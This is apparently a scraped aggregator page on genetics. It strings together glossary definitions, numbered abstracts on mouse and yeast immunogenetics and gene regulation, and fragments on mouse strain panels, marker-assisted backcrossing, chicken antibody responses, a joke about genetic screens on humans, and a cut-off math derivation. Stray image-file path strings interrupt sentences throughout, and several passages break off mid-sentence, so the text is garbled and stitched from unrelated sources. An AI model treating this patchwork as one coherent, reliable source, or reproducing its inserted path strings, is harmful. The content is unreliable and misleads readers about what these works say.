Extrachromosomal, usually CIRCULAR DNA molecules that are self-replicating and transferable from one organism to another. They are found in a variety of bacterial, archaeal,fungal, algal, and plant species. They are used in GENETIC ENGINEERING as CLONING VECTORS.
Proteins found in any species of virus.
An ATP-dependent exodeoxyribonuclease that cleaves in either the 5'- to 3'- or the 3'- to 5'-direction to yield 5'-phosphooligonucleotides. It is primarily found in BACTERIA.
The proportion of one particular in the total of all ALLELES for one genetic locus in a breeding POPULATION.
An order of fish with eight families and numerous species of both egg-laying and livebearing fish. Families include Cyprinodontidae (egg-laying KILLIFISHES;), FUNDULIDAEl; (topminnows), Goodeidae (Mexican livebearers), Jenynsiidae (jenynsiids), Poeciliidae (livebearers), Profundulidae (Middle American killifishes), Aplocheilidae, and Rivulidae (rivulines). In the family Poeciliidae, the guppy and molly belong to the genus POECILIA.
The non-genetic biological changes of an organism in response to challenges in its ENVIRONMENT.

Features of the immune response to DNA in mice. I. Genetic control. (1/9064)

The genetic control of the immune response to DNA was studied in various strains of mice F1 hybrids and corresponding back-crosses immunized with single stranded DNA complexed to methylated bovine serum albumin. Anti-DNA antibody response was measured by radioimmuno-logical technique. High responder, low responder, and intermediate responder strains were found and the ability to respond to DNA was characterized as a dominant genetic trait which is not linked to the major locus of histocompatibility. Studies in back-crossessuggested that this immune response is under multigenic control. High responder mice produce both anti-double stranded DNA and anti-single stranded DNA 7S and 19S antibodies, while low responder mice produce mainly anti-single stranded DNA 19S antibodies.  (+info)

Prolonged eosinophil accumulation in allergic lung interstitium of ICAM-2 deficient mice results in extended hyperresponsiveness. (2/9064)

ICAM-2-deficient mice exhibit prolonged accumulation of eosinophils in lung interstitium concomitant with a delayed increase in eosinophil numbers in the airway lumen during the development of allergic lung inflammation. The ICAM-2-dependent increased and prolonged accumulation of eosinophils in lung interstitium results in prolonged, heightened airway hyperresponsiveness. These findings reveal an essential role for ICAM-2 in the development of the inflammatory and respiratory components of allergic lung disease. This phenotype is caused by the lack of ICAM-2 expression on non-hematopoietic cells. ICAM-2 deficiency on endothelial cells causes reduced eosinophil transmigration in vitro. ICAM-2 is not essential for lymphocyte homing or the development of leukocytes, with the exception of megakaryocyte progenitors, which are significantly reduced.  (+info)

Phenotype of mice and macrophages deficient in both phagocyte oxidase and inducible nitric oxide synthase. (3/9064)

The two geneticallyestablished antimicrobial mechanisms of macrophages are production of reactive oxygen intermediates by phagocyte oxidase (phox) and reactive nitrogen intermediates by inducible nitric oxide synthase (NOS2). Mice doubly deficient in both enzymes (gp91(phox-/-)/NOS2(-/-)) formed massive abscesses containing commensal organisms, mostly enteric bacteria, even when reared under specific pathogen-free conditions with antibiotics. Neither parental strain showed such infections. Thus, phox and NOS2 appear to compensate for each other's deficiency in providingresistance to indigenous bacteria, and no other pathway does so fully. Macrophages from gp91(phox-/-)/NOS2(-/-) mice could not kill virulent Listeria. Their killing of S. typhimurium, E. coli, and attenuated Listeria was markedly diminished but demonstrable, establishing the existence of a mechanism of macrophage antibacterial activity independent of phox and NOS2.  (+info)

Enhanced Th1 activity and development of chronic enterocolitis in mice devoid of Stat3 in macrophages and neutrophils. (4/9064)

We have generated mice with a cell type-specific disruption of the Stat3 gene in macrophages and neutrophils. The mutant mice are highly susceptible to endotoxin shock with increased production of inflammatory cytokines such as TNFalpha, IL-1, IFN gamma, and IL-6. Endotoxin-induced production of inflammatory cytokines is augmented because the suppressive effects of IL-10 on inflammatory cytokine production from macrophages and neutrophils are completely abolished. The mice show a polarized immune response toward the Th1 type and develop chronic enterocolitis with age. Taken together, Stat3 plays a critical role in deactivation of macrophages and neutrophils mainly exerted by IL-10.  (+info)

Localization and properties of a silencing element near the mat3-M mating-type cassette of Schizosaccharomyces pombe. (5/9064)

Transcription is repressed in a segment of Schizosaccharomyces pombe chromosome II that encompasses the mat2-P and mat3-M mating-type cassettes. Chromosomal deletion analysis revealed the presence of a repressor element within 500 bp of mat3-M. Thiselement acted in synergy with the trans-acting factors Swi6, Clr1, Clr2, Clr3, and Clr4 and had several properties characteristic of silencers: it did not display promoter specificity, being able to silence not only the M mating-type genes but also the S. pombe ura4 and ade6 genes placed on the centromere-distal side of the mat3-M cassette; it could repress a gene when placed further than 2.6 kb from the promoter and it acted in both orientations, although with different efficiencies, the natural orientation repressing more stringently than the reverse. Following deletion of this element, two semistable states of expression of the mat3-M region were observed and these two states could interconvert. The deletion did not affect gene expression in the vicinity of the mat2-P cassette, 11 kb away from mat3-M. Conversely, deleting 1.5 kb on the centromere-proximal side of the mat2-P cassette, which was previously shown to partially derepress transcription around mat2-P, had no effect on gene expression near mat3-M. A double deletion removing the mat2-P and mat3-M repressor elements had the same effect as the single deletions on their respective cassettes when assayed in cells of the M mating type. These observations allow us to refine a model proposing that redundant pathways silence the mating type region of S. pombe.  (+info)RAD53 regulates DBF4 independently of checkpoint function in Saccharomyces cerevisiae. (6/9064)

The Cdc7p and Dbf4p proteins form an active kinase complex in Saccharomyces cerevisiae that is essential for theinitiation of DNA replication. A genetic screen for mutations that are lethal in combination with cdc7-1 led to the isolation of seven lsd (lethal with seven defect) complementation groups. The lsd7 complementation group contained two temperature-sensitive dbf4 alleles. The lsd1 complementation group contained a new allele of RAD53, which was designated rad53-31. RAD53 encodes an essential protein kinase that is required for the activation of DNA damage and DNA replication checkpoint pathways, and that is implicated as a positive regulator of S phase. Unlike other RAD53 alleles, wedemonstrate that the rad53-31 allele retains an intact checkpoint function. Thus, the checkpoint function and the DNA replication function of RAD53 can be functionally separated. The activation of DNA replication through RAD53 most likely occurs through DBF4. Two-hybrid analysis indicates that the Rad53p protein binds to Dbf4p. Furthermore, the steady-state level of DBF4 message and Dbf4p protein is reduced in several rad53 mutant strains, indicating that RAD53 positively regulates DBF4. These results suggest that two different functions of the cell cycle, initiation of DNA replication and the checkpoint function, can be coordinately regulated through the common intermediate RAD53.  (+info)

Efficient homologous and illegitimate recombination in the opportunistic yeast pathogen Candida glabrata. (7/9064)

The opportunistic pathogen Candida glabrata causes significant disease in humans. To develop genetic tools to investigate the pathogenicity of this organism, we have constructed ura3 and his3 auxotrophic strains by deleting the relevant coding regions in a C. glabrata clinical isolate. Linearized plasmids carrying a Saccharomyces cerevisiae URA3 gene efficiently transformed the ura3 auxotroph to prototrophy. Homologous recombination events were observed when the linearized plasmid carried short terminal regions homologous with the chromosome. In contrast, in the absence of any chromosomal homology, the plasmid integrated by illegitimate recombination into random sites in the genome. Sequence analysis of the target sites revealed that for the majority of illegitimate transformants there was no microhomology with the integration site. Approximately 0.25% of the insertions resulted in amino acid auxotrophy, suggesting that insertion was random at a gross level. Sequence analysis suggested that illegitimate recombination is nonrandom at the single-gene level and that the integrating plasmid has a preference for inserting into noncoding regionsof the genome. Analysis of the relative numbers of homologous and illegitimate recombination events suggests that C. glabrata possesses efficient systems for both homologous and nonhomologous recombination.  (+info)

Fus3p and Kss1p control G1 arrest in Saccharomyces cerevisiae through a balance of distinct arrest and proliferative functions that operate in parallel with Far1p. (8/9064)

In Saccharomyces cerevisiae, mating pheromones activate two MAP kinases (MAPKs), Fus3p and Kss1p, to induce G1 arrest prior to mating. Fus3p is known to promote G1 arrest by activating Far1p, which inhibits three Clnp/Cdc28p kinases. To analyze the contribution of Fus3p and Kss1p to G1 arrest that is independent of Far1p, we constructed far1 CLN strains that undergo G1 arrest from increased activation of the mating MAP kinase pathway. We find that Fus3p and Kss1p both control G1 arrest through multiple functions that operate in parallel with Far1p. Fus3p and Kss1p together promote G1 arrest by repressing transcription of G1/S cyclin genes (CLN1, CLN2, CLB5) by a mechanism that blocks their activation by Cln3p/Cdc28p kinase. In addition, Fus3p and Kss1p counteract G1 arrest through overlapping and distinct functions. Fus3p and Kss1p together increase the expression of CLN3 and PCL2 genes that promote budding, and Kss1p inhibits the MAP kinase cascade. Strikingly, Fus3p promotes proliferation by a novel function that is not linked to reduced Ste12p activity or increased levels of Cln2p/Cdc28p kinase. Genetic analysis suggests that Fus3p promotes proliferation through activation of Mcm1p transcription factor that upregulates numerous genes in G1 phase. Thus, Fus3p and Kss1p control G1 arrest through a balance of arrest functions that inhibit theCdc28p machinery and proliferative functions that bypass this inhibition.  (+info)

The Collaborative Cross (CC) represents a large collection of new inbred mouse strains created by the mouse genetics community aimed at revolutionizing the study of complex genetic traits and diseases. Derived from classical inbred strains and wild-derived strains, the CC captures nearly 90% of known genetic variation in laboratory mice, far surpassing more commonly used inbred strains. The CC is a tool to integrate studies of gene function and gene networks, allowing the prediction and testing of biological models based on the whole organism, critical to the development of personalized therapies for humans. Genome Research has published three articles online in-advance utilizing strains from the emerging Collaborative Cross mouse strains.. 1. Collaborative Cross strains facilitate mapping of causative loci. In this work, Aylor and colleagues performed anexperiment called the the pre-CC study, the first genetic data and analysis from the emerging strains of the CC. Their investigation ...
The first step for foreground selection is to associate a molecular marker with the target trait by some genetic mapping method. In the best case, the marker itself would be the functional polymorphism - that is, the DNA change that causes the phenotypic difference between alleles. These markers can be called functional markers (Andersen and Lübberstedt, 2003). Creating functional markers requires the gene of interest to be cloned (unless you are very, very lucky!). In the absence of a cloned gene, markers that are very tightly linked to the target gene are necessary to avoid recombination between the marker and the gene during backcrossing. A recombination, of course, would result in a situation where the breeder is selecting for a marker allele that is now linked to the undesirable trait allele. Assuming markers are available for the trait, then they can be applied at each backcross generation to select those plants carrying the desired allele (or gene, in the case of a novel transgene). ...
Six congenic lines containing B complex recombinants R1 = B-F/B-L24, B-G23; R2 = B-F/B-L2, B-G23; R3 = B-F/B-L2, B-G23; R4 = B-F/B-L2, B-G23; R5 = B-F/B-L21, B-G19; and R6R6 = B-F/B-L21, B-G23 were tested individually for antibody response against SRBC. R2, R3 and R4 arose from independent recombination events but are serologically identical. Each B complex recombinant was crossed to inbred Line UCD 003 (B17B17). After ten backcross generations to the inbred line, B complex heterozyogtes were mated to produce recombinant homozygous lines having 99.9%background gene uniformity. Birds of each line were injected intravenously with 1 mL of 2.5% SRBC at four and 11 weeks of age to induce primary and secondary antibody responses, respectively. Blood samples were collected 7 days post-injection. Microtiter methods were used to assay total anti-SRBC and mercaptoethanol-resistant (MER) serum antibody. All antibody titers were evaluated by least squares ANOVA with hatch and B recombinant genotype as main
For instance they could do some screens for temperature-sensitive mutants (huge, massive saunas in action). Imagine the figures in the papers to go along with this sort of experiments. Some allele crossing experiments in search of synthetic lethality - that would be great as well. With photos of F0 and F1. Auxotrophic humans with plasmids complementing their deficiency as useful tools - complementation experiments will be particularly cruel - no complementation - well, tough luck ...
The BXD#/Rww set was generated using a strategy of advanced intercrosses (AI). The AI technique produces recombinant RI strains which incorporate approximately twice as many recombinations as the standard RI strains. The addition of the AI BXD RI lines to the existing BXD set creates the largest of the mouse RI mapping panels. This set is useful in QTL mapping and analysis of gene function. The BXD strains are derived from the C57BL/6J (Stock No. 000664) and DBA/2J (Stock No. 000671) progenitor strains.
There is no general technique, but there are some simple principles. One is to study the tail behavior of $f$ by comparing it to tractable functions.. By definition, the expectation is the double limit (as $y$ and $z$ vary independently). $$E_{y,z}[f] = \lim_{y\to-\infty,z\to\infty}\int_y^z x f(x) dx = \lim_{y\to-\infty}\int_y^0 xf(x) dx+ \lim_{z\to\infty}\int_0^z x f(x) dx.$$. The treatment of the two integrals at the right is the same, so lets focus on the positive one. One behavior of $f$ that assures a limiting value is to compare it to the power $x^{-p}$. Suppose $p$ is a number for which $$\liminf_{x\to\infty} x^p f(x)\gt 0.$$ This means there exists an $\epsilon\gt 0$ and an $N\gt 1$ for which $x^p f(x) \ge \epsilon$ whenever $x\in[N,\infty)$. We may exploit this inequality by breaking the integration into the regions where $x\lt N$ and $x \ge N$ and applying it in the second region:. $$\eqalign{ \int_0^z x f(x) dx &=\int_0^{N} x f(x) dx + \int_{N}^z x f(x) dx \\ &=\int_0^{N} x f(x) dx ...
